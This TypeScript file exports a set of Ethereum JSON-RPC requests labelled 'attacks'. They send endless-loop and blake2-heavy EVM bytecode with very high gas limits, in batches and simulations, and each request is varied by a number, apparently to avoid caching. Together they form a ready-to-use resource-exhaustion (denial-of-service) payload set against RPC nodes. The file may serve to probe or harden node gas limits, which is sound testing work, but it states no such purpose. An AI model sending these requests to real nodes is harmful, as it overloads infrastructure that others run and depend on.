type Call = { method: string; params: unknown[] }

const someone = `0x${'11'.repeat(20)}`
const much = '0x2540be4000'

/** Input of blake2's round function with a million rounds, in memory: the most time that a unit of gas buys. */
const blakeInput = '63000f424060e01b600052'
const blakeRound = '5b6000600060d5600060095afa50'

/** Code that does rounds of blake2 until little gas is left, and fails at once with less than half of what a call may have. */
const needsHalf = {
  [someone]: {
    code: '0x63000f424060e01b6000526300e4e1c05a10602d575b6000600060d5600060095afa5062124f805a11601557005b60006000fd',
  },
}

/** Questions that cost a node as much as a question can; a number makes each of them another one. */
export const attacks: Record<string, (number: number) => Call[]> = {
  'the endless loop, with 10 billion gas': (number) => [
    { method: 'eth_call', params: [{ from: someone, data: `0x5b600056${tail(number)}`, gas: much }, 'latest'] },
  ],
  'the endless loop, in batches of 50': (number) =>
    Array.from({ length: 50 }, (_, at) => ({
      method: 'eth_call',
      params: [{ data: `0x5b600056${tail(number * 50 + at)}`, gas: much }, 'latest'],
    })),
  'the slowest code, blake2': (number) => [
    {
      method: 'eth_call',
      params: [{ data: `0x${blakeInput}${blakeRound}600b56${tail(number)}`, gas: much }, 'latest'],
    },
  ],
  'estimates of the slowest code': (number) => [
    { method: 'eth_estimateGas', params: [{ from: someone, to: someone, data: word(number) }, 'latest', needsHalf] },
  ],
  'simulations of 50 endless loops': (number) => [
    {
      method: 'eth_simulateV1',
      params: [
        {
          blockStateCalls: [
            {
              blockOverrides: { gasLimit: '0xe8d4a51000' },
              stateOverrides: { [someone]: { code: '0x5b600056' } },
              calls: Array.from({ length: 50 }, () => ({ from: someone, to: someone, data: word(number) })),
            },
          ],
        },
        'latest',
      ],
    },
  ],
}

const tail = (number: number) => number.toString(16).padStart(8, '0')
const word = (number: number) => `0x${number.toString(16).padStart(64, '0')}`
